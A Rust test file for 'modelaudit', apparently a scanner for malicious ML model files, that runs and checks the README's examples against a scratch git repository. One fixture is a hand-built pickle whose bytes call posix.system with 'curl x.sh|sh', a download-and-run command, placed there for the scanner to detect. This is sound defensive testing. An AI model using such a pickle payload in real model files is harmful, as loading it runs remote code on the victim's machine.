//! Everything that the README shows is run. `BLESS=1` rewrites what its commands print.

use std::fmt::Write as _;
use std::path::Path;
use std::process::Command;

use modelaudit::formats::FORMATS;
use modelaudit::{cli, config};

use crate::cli::{EVIL, Folder, PLAIN, SAFE, bytes_of};
use crate::fixtures::root;
use crate::target::scratch::Scratch;

const README: &str = "README.md";
/// Pages whose examples are run.
const PAGES: [&str; 2] = [README, "docs/outputs.md"];
/// Marks around the list of formats.
const LIST: (&str, &str) = ("<!-- formats -->\n", "<!-- /formats -->");

fn readme() -> String {
    page(README)
}

fn page(name: &str) -> String {
    std::fs::read_to_string(root().join(name)).unwrap()
}

/// The fenced blocks of a language, without their fences.
fn blocks(text: &str, language: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let Some(info) = line.strip_prefix("```") else { continue };
        let block: String =
            lines.by_ref().take_while(|line| *line != "```").fold(String::new(), |text, line| text + line + "\n");
        if info == language {
            found.push(block);
        }
    }
    found
}

/// Runs a line of shell with the built program in the path; gives its exit code and all that it prints.
fn shell(line: &str, dir: &Path) -> (i32, String) {
    let bin = Path::new(env!("CARGO_BIN_EXE_modelaudit")).parent().unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    #[expect(clippy::disallowed_methods, reason = "what the README shows")]
    let mut command = Command::new("bash");
    command.arg("-c").arg(format!("{{ {line}\n}} 2>&1")).current_dir(dir).env_clear();
    command.env("PATH", path).env("HOME", "/nonexistent").env("COLUMNS", "80");
    command.env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1");
    let output = command.output().unwrap();
    (output.status.code().unwrap(), String::from_utf8(output.stdout).unwrap())
}

#[test]
fn newcomers_have_two_commands() {
    let text = readme();
    let found = blocks(&text, "sh");
    let [first, second] = found.as_slice() else { panic!("two blocks of sh: {found:?}") };
    assert_eq!(second, "cargo test --locked\n");
    let (build, runs) = first.split_once('\n').unwrap();
    assert_eq!(build, "cargo build --release --locked");
    assert!(runs.contains("|| test $? -eq 1"), "one of them finds something");
    let runs = runs.replace("./target/release/modelaudit", "modelaudit");
    let (code, printed) = shell(&format!("set -eu\n{runs}"), root());
    assert_eq!(code, 0, "{printed}");
    assert!(printed.contains("S101") && printed.contains("no findings"), "{printed}");
}

/// A repository like the one of a reader: fixtures, a benign model on `main`, and a change under review.
fn repository() -> Scratch {
    let scratch = Scratch::repository();
    for fixture in [EVIL, PLAIN, SAFE] {
        scratch.write(&format!("fixtures/{fixture}"), bytes_of(fixture));
    }
    scratch.write("models/encoder.safetensors", bytes_of(SAFE));
    scratch.write("models/old.pkl", bytes_of("torch/os-system.bin"));
    scratch.commit("base");
    scratch.git(&["checkout", "-q", "-b", "feature"]);
    scratch.write("models/encoder.pkl", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0ccurl x.sh|sh\x85R.");
    scratch.commit("change");
    scratch
}

/// Times differ from run to run.
fn steady(text: &str) -> String {
    let time = regex::Regex::new(r", (under 1 ms|[0-9.]+ m?s)\)").unwrap();
    time.replace_all(text, ", 1 ms)").into_owned()
}

#[test]
fn examples_print_what_they_show() {
    for name in PAGES {
        let text = page(name);
        let blessed = run_examples(&text);
        let blessed = if name == README { list_formats(&blessed) } else { blessed };
        if std::env::var_os("BLESS").is_some() {
            std::fs::write(root().join(name), blessed).unwrap();
        } else {
            assert!(text == blessed, "{name} is out of date, rewrite it with BLESS=1; it would be:\n{blessed}");
        }
    }
}

/// The page with what its commands print now, in a repository of its own.
fn run_examples(text: &str) -> String {
    let scratch = repository();
    let mut blessed = text.to_owned();
    for block in blocks(text, "console") {
        let mut now = String::new();
        for command in block.lines().filter_map(|line| line.strip_prefix("$ ")) {
            let (code, printed) = shell(command, &scratch.dir);
            assert!((0..=1).contains(&code), "{command}: {code}\n{printed}");
            write!(now, "$ {command}\n{}", steady(&printed)).unwrap();
        }
        blessed = blessed.replace(&format!("```console\n{block}"), &format!("```console\n{now}"));
    }
    blessed
}

fn list_formats(text: &str) -> String {
    let (before, rest) = text.split_once(LIST.0).unwrap();
    let (_, after) = rest.split_once(LIST.1).unwrap();
    let titles: Vec<&str> = FORMATS.iter().map(|format| format.title).collect();
    format!("{before}{}{}.\n{}{after}", LIST.0, titles.join(", "), LIST.1)
}

#[test]
fn configuration_examples_are_valid() {
    let text = readme();
    let found = blocks(&text, "toml");
    assert!(!found.is_empty());
    for block in found {
        let folder = Folder::new().write(".modelaudit.toml", &block);
        let env = config::Environment { directory: folder.path(), ..config::Environment::default() };
        let rules = modelaudit::rules::RuleSet::shipped();
        let settings = config::Settings::load(&config::Flags::default(), &env, rules);
        let settings = settings.unwrap_or_else(|error| panic!("{error}\n{block}"));
        assert!(settings.file.is_some());
    }
}

#[test]
fn ci_examples_use_what_exists() {
    let text = readme();
    let action = std::fs::read_to_string(root().join("action.yml")).unwrap();
    let found = blocks(&text, "yaml");
    assert!(!found.is_empty());
    for block in found {
        let mut ours = false;
        for line in block.lines() {
            if let Some((_, command)) = line.split_once("- modelaudit ").or_else(|| line.split_once(": modelaudit ")) {
                let words = std::iter::once("modelaudit").chain(command.split_whitespace());
                cli::parse(words.map(Into::into)).unwrap_or_else(|error| panic!("{line}: {error}"));
            }
            let line = line.trim().trim_start_matches("- ");
            if let Some(action) = line.strip_prefix("uses: ") {
                ours = action.starts_with("./");
            }
            let key = line.split_once(':').map_or("", |(key, _)| key);
            let of_step = ["uses", "id", "with", "if"].contains(&key);
            assert!(!ours || of_step || action.contains(&format!("\n  {key}:\n")), "{key} is no input of the action");
        }
    }
}

#[test]
fn links_lead_somewhere() {
    let text = readme();
    let link = regex::Regex::new(r"\]\(([^)#]+)").unwrap();
    let local = link.captures_iter(&text).map(|found| found[1].to_owned()).filter(|path| !path.contains("://"));
    let local: Vec<String> = local.collect();
    assert!(local.len() > 5, "{local:?}");
    for path in local {
        assert!(root().join(&path).exists(), "{path}");
    }
    assert!(text.lines().count() <= 200);
}
